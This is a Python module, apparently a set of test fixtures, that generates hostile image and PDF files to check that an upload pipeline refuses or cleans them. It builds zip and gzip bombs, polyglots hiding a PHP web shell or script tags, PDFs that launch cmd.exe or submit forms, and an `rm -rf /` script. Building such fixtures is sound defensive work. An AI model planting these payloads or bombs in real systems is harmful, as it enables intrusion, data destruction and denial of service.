"""Files that mean harm, made here: bombs, polyglots, scripts, things cut off or calling themselves something else."""

import gzip
import io
import random
import struct
import warnings
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
ZIP = b"PK\x03\x04"
MEGA = 1024 * 1024


def encoded(kind, size=(60, 40), mode="RGB", **options):
    buffer = io.BytesIO()
    Image.new(mode, size, 200 if mode in {"L", "P"} else None or 0).save(buffer, kind, **options)
    return buffer.getvalue()


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def raw_png(width, height, *, depth=8, colour=2, interlace=0, idat=b"", extra=b""):
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    body = chunk(b"IDAT", zlib.compress(idat))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + body + chunk(b"IEND", b"")


def flat_png(width, height, *, colour, bytes_a_pixel, depth=8, interlace=0):
    """A whole picture of one colour: small as a file, large in memory."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + width * bytes_a_pixel)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def png_with(kind, body):
    whole = encoded("PNG")
    return whole[:33] + chunk(kind, body) + whole[33:]


def zeros(megabytes):
    """That many megabytes of nought, packed."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(b"\x00" * MEGA) for _ in range(megabytes)) + packer.flush()


def apng(frames):
    """Many frames behind the first picture."""
    whole = encoded("PNG", (200, 200))
    control = chunk(b"acTL", struct.pack(">II", frames, 0))
    packed = zlib.compress(b"\x00" * (601 * 200))
    parts = [
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", 2 * n, 200, 200, 0, 0, 1, 100, 0, 0))
        + chunk(b"fdAT", struct.pack(">I", 2 * n + 1) + packed)
        for n in range(frames)
    ]
    return whole[:33] + control + whole[33:-12] + b"".join(parts) + whole[-12:]


def jpeg_with_segment(marker, body):
    whole = encoded("JPEG")
    return whole[:2] + b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body + whole[2:]


def jpeg_of_size(width, height):
    """A picture whose header claims another size."""
    whole = bytearray(encoded("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def jpeg_of_many_scans(scans):
    """A progressive picture whose last scan is sent again and again: work without end."""
    whole = encoded("JPEG", (3000, 3000), progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * scans + b"\xff\xd9"


def exif_photo():
    exif = Image.Exif()
    exif[0x010F] = "FarmersPhone"
    exif.get_ifd(0x8825)[1] = "N"
    return encoded("JPEG", exif=exif)


def two_pictures():
    """MPO, as some phones save: a second picture behind the first."""
    buffer = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(
        buffer, "MPO", save_all=True, append_images=[Image.new("RGB", (60, 40), "blue")]
    )
    return buffer.getvalue()


def text_png():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", SCRIPT.decode())
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SCRIPT.decode()}</x:xmpmeta>")
    return encoded("PNG", pnginfo=notes)


def archive(**files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in files.items():
            made.writestr(name.replace("__", "/"), body)
    return buffer.getvalue()


def nested_archive(depth):
    inner = archive(zeros=b"\x00" * 10 * MEGA)
    for _ in range(depth):
        inner = archive(**{f"part{number}": inner for number in range(8)})
    return inner


def document(change=None, pages=1, **saving):
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    buffer = io.BytesIO()
    made.save(buffer, **saving)
    return buffer.getvalue()


def action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def opens_with(kind, **more):
    return document(lambda made: made.Root.__setitem__("/OpenAction", action(kind, **more)))


def on_the_page(annotation):
    """A page with one annotation, everything in it written directly, nothing an object of its own."""

    def change(made):
        made.pages[0].obj["/Annots"] = pikepdf.Array([annotation])

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a field outside the form is what is wanted here
        return document(change)


def nested_action():
    """The script hangs behind a harmless action, two dictionaries deep."""
    behind = action("JavaScript", JS="app.alert(1)")
    first = action("URI", URI="https://example.com/", Next=pikepdf.Array([behind]))
    return on_the_page(annotation("Link", A=first))


def annotation(kind, **more):
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 10, 10], **more)


def attached(made):
    made.attachments["invoice.exe"] = b"MZ" + b"\x00" * 100


def file_annotation():
    body = {}

    def change(made):
        stream = made.make_indirect(pikepdf.Stream(made, b"MZ"))
        spec = pikepdf.Dictionary(F="x.exe", EF=pikepdf.Dictionary(F=stream))
        made.pages[0].obj["/Annots"] = pikepdf.Array([annotation("FileAttachment", FS=spec)])

    return document(change, **body)


def drawn(commands, **box):
    """A page whose content is these commands."""

    def change(made):
        made.pages[0].obj["/Contents"] = made.make_stream(commands)
        for name, value in box.items():
            made.pages[0].obj[f"/{name}"] = value

    return document(change)


def packed_content(megabytes):
    """A content stream of a few kilobytes that unpacks to megabytes."""

    def change(made):
        stream = pikepdf.Stream(made, zeros(megabytes))
        stream["/Filter"] = pikepdf.Name.FlateDecode
        made.pages[0].obj["/Contents"] = made.make_indirect(stream)

    return document(change, compress_streams=False)


def large_image(side):
    def change(made):
        stream = pikepdf.Stream(made, zlib.compress(b"\x00" * 1000))
        stream["/Type"], stream["/Subtype"] = pikepdf.Name.XObject, pikepdf.Name.Image
        stream["/Width"], stream["/Height"], stream["/BitsPerComponent"] = side, side, 8
        stream["/ColorSpace"], stream["/Filter"] = pikepdf.Name.DeviceRGB, pikepdf.Name.FlateDecode
        page = made.pages[0].obj
        page["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=made.make_indirect(stream)))
        page["/Contents"] = made.make_stream(b"q 500 0 0 500 0 0 cm /Im0 Do Q")

    return document(change)


def locked(**who):
    return document(encryption=pikepdf.Encryption(**who))


def page_tree_that_bites_its_tail():
    parts = [
        b"%PDF-1.4\n",
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"2 0 obj\n<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>\nendobj\n",
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n",
        b"trailer\n<</Root 1 0 R/Size 4>>\n%%EOF",
    ]
    return b"".join(parts)


def xref_that_bites_its_tail():
    whole = document()
    return whole.replace(b"startxref", b"startxref\n0\n%%EOF\nstartxref") + b"\nstartxref\n10\n%%EOF"


def deep_nesting(depth):
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"


def hidden_script():
    """The names of the action are written in hexadecimal, inside a packed object stream."""
    return opens_with("JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/#4aava#53cript")


def javascript_link():
    return on_the_page(annotation("Link", A=action("URI", URI="javascript:alert(1)")))


def field_script():
    """A form field that calculates by script, written directly into the page."""
    keys = pikepdf.Dictionary(K=action("JavaScript", JS="app.alert(1)"))
    return on_the_page(annotation("Widget", AA=keys, FT=pikepdf.Name.Tx, T="x"))


def page_script():
    return document(lambda made: made.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=action("Launch", F="x"))))


def name_tree_script():
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["x", action("JavaScript", JS="1")]))
    return document(lambda made: made.Root.__setitem__("/Names", pikepdf.Dictionary(JavaScript=tree)))


def xfa():
    return document(lambda made: made.Root.__setitem__("/AcroForm", pikepdf.Dictionary(XFA=made.make_stream(SCRIPT))))


def rich_media():
    content = pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array([])))
    return on_the_page(annotation("RichMedia", RichMediaContent=content))


HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 400
AVIF = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 400
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\nshowpage\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
NOISE = random.Random(7).randbytes(200_000)

# name → what makes the bytes: nobody's picture or paper, to be refused by both doors.
REFUSED = {
    "nothing at all": lambda: b"",
    "a megabyte of noughts": lambda: b"\x00" * MEGA,
    "noise": lambda: NOISE,
    "a page that calls itself a picture": lambda: b"<html>" + SCRIPT + b"</html>",
    "a drawing that runs scripts": lambda: SVG,
    "a drawing behind an XML head": lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG,
    "PostScript that calls a shell": lambda: EPS,
    "a HEIC": lambda: HEIC,
    "an AVIF": lambda: AVIF,
    "a GIF": lambda: encoded("GIF", mode="P"),
    "a GIF that is a script": lambda: b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)",
    "a BMP": lambda: encoded("BMP"),
    "a TIFF": lambda: encoded("TIFF"),
    "an icon": lambda: encoded("ICO", (32, 32)),
    "a Photoshop head": lambda: b"8BPS\x00\x01" + b"\x00" * 300,
    "a Windows program": lambda: b"MZ" + b"\x90" * 2000,
    "a Linux program": lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 2000,
    "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "a zip bomb": lambda: archive(zeros=b"\x00" * 60 * MEGA),
    "zips within zips": lambda: nested_archive(3),
    "a gzip bomb": lambda: gzip.compress(b"\x00" * 40 * MEGA),
    "a Word file with macros": lambda: archive(word__vbaProject="x", word__document="<w:document/>"),
    "a PNG of 40 000 × 40 000": lambda: raw_png(40_000, 40_000),
    "a PNG of 60 000 × 60 000 in one bit": lambda: raw_png(60_000, 60_000, depth=1, colour=0),
    "a PNG whose sides overflow": lambda: raw_png(2_147_483_647, 2_147_483_647),
    "a PNG without pixels": lambda: raw_png(0, 0),
    "a PNG with nothing in it": lambda: raw_png(500, 500),
    "a PNG cut off": lambda: encoded("PNG", (900, 900))[:-40],
    "a PNG head alone": lambda: b"\x89PNG\r\n\x1a\n",
    "a JPEG of 65 500 × 65 500": lambda: jpeg_of_size(65_500, 65_500),
    "a JPEG cut off": lambda: encoded("JPEG", (900, 700))[:1500],
    "a JPEG head alone": lambda: b"\xff\xd8\xff\xe0",
    "a page hidden before a picture": lambda: SCRIPT + encoded("JPEG"),
}
# Taken, but nothing of the marked bytes may be in what is kept and shown.
NEUTRALISED = {
    "a PNG with a zip behind it": lambda: (encoded("PNG") + archive(x=PHP), ZIP),
    "a PNG with a page behind it": lambda: (encoded("PNG") + SCRIPT, SCRIPT),
    "a PNG with a script in its text": lambda: (text_png(), SCRIPT),
    "a PNG with PHP in a chunk of its own": lambda: (png_with(b"phPc", PHP), PHP),
    "a JPEG with a page behind it": lambda: (encoded("JPEG") + SCRIPT, SCRIPT),
    "a JPEG with a zip behind it": lambda: (encoded("JPEG") + archive(x=PHP), ZIP),
    "a JPEG with PHP in its comment": lambda: (encoded("JPEG", comment=PHP), PHP),
    "a JPEG with a script in its XMP": lambda: (
        jpeg_with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + SCRIPT),
        SCRIPT,
    ),
    "a JPEG with PHP in a Photoshop segment": lambda: (jpeg_with_segment(0xED, b"Photoshop 3.0\x00" + PHP), PHP),
    "a photo that says where it was taken": lambda: (exif_photo(), b"FarmersPhone"),
    "a phone's two pictures in one": lambda: (two_pictures(), b"MPF"),
}
# Either answer is right, if it comes in time and within bounds.
HEAVY = {
    "a text that unpacks to 100 MB": lambda: png_with(b"zTXt", b"Comment\x00\x00" + zeros(100)),
    "a colour profile that unpacks to 100 MB": lambda: png_with(b"iCCP", b"icc\x00\x00" + zeros(100)),
    "an animation of 3 000 frames": lambda: apng(3000),
    "a PNG of 49 million pixels with alpha": lambda: flat_png(7000, 7000, colour=6, bytes_a_pixel=4),
    "a PNG of 48 million pixels in 16 bits": lambda: flat_png(8000, 6000, colour=2, bytes_a_pixel=6, depth=16),
    "a JPEG of 49 million pixels": lambda: encoded("JPEG", (7000, 7000)),
    "a progressive JPEG of 400 scans": lambda: jpeg_of_many_scans(400),
    "a JPEG of 65 000 × 700": lambda: encoded("JPEG", (65_000, 700)),
}
# Papers only.
BAD_PAPERS = {
    "a PDF that runs a script when opened": lambda: opens_with("JavaScript", JS="app.alert(1)"),
    "a PDF whose script is spelled in hexadecimal": lambda: hidden_script(),
    "a PDF that starts a program": lambda: opens_with("Launch", F="cmd.exe"),
    "a PDF that sends its form away": lambda: opens_with("SubmitForm", F="https://example.com/"),
    "a PDF that reads data in": lambda: opens_with("ImportData", F="x.fdf"),
    "a PDF that opens another file": lambda: opens_with("GoToR", F="//host/share"),
    "a PDF with a program attached": lambda: document(attached),
    "a PDF with a program behind a paper clip": lambda: file_annotation(),
    "a PDF whose page starts a program": lambda: page_script(),
    "a PDF whose field runs a script": lambda: field_script(),
    "a PDF with a script behind a link": lambda: nested_action(),
    "a PDF with a javascript link": lambda: javascript_link(),
    "a PDF with scripts in its name tree": lambda: name_tree_script(),
    "a PDF with an XFA form": lambda: xfa(),
    "a PDF with rich media": lambda: rich_media(),
    "a PDF with a password": lambda: locked(user="geheim", owner="geheim"),
    "a PDF locked by its owner": lambda: locked(owner="geheim"),
    "a PDF cut off": lambda: document(pages=20)[:700],
    "a PDF of 2 000 pages": lambda: document(pages=2000),
    "a PDF without pages": lambda: document(pages=0),
    "a PDF whose pages bite their tail": lambda: page_tree_that_bites_its_tail(),
    "a PDF nested 100 000 deep": lambda: deep_nesting(100_000),
    "a page that begins like a PDF": lambda: b"%PDF-1.4\n" + SCRIPT,
    "a zip that begins like a PDF": lambda: b"%PDF-1.4\n" + archive(x=PHP),
    "a WebP, which is no paper": lambda: encoded("WEBP"),
}
CLEANED_PAPERS = {
    "a PDF with a large zip behind it": lambda: (document() + archive(x=NOISE[:5000]), ZIP),
    "a PDF with a small zip behind it": lambda: (document() + archive(x=PHP), ZIP),
    "a PDF with a page behind it": lambda: (document() + SCRIPT, SCRIPT),
}
HEAVY_PAPERS = {
    "a PDF whose page unpacks to 200 MB": lambda: packed_content(200),
    "a PDF with a picture of 60 000 × 60 000": lambda: large_image(60_000),
    "a PDF with a page as large as a country": lambda: drawn(
        b"0 0 m 9 9 l S", MediaBox=[0, 0, 1_000_000_000, 1_000_000_000]
    ),
    "a PDF that draws without end": lambda: drawn(b"q 1 0 0 1 0 0 cm 0 0 m 500 500 l S Q\n" * 400_000),
    "a PDF whose table of objects bites its tail": lambda: xref_that_bites_its_tail(),
    "a WebP animation": lambda: encoded(
        "WEBP", (300, 300), save_all=True, append_images=[Image.new("RGB", (300, 300))] * 50
    ),
}
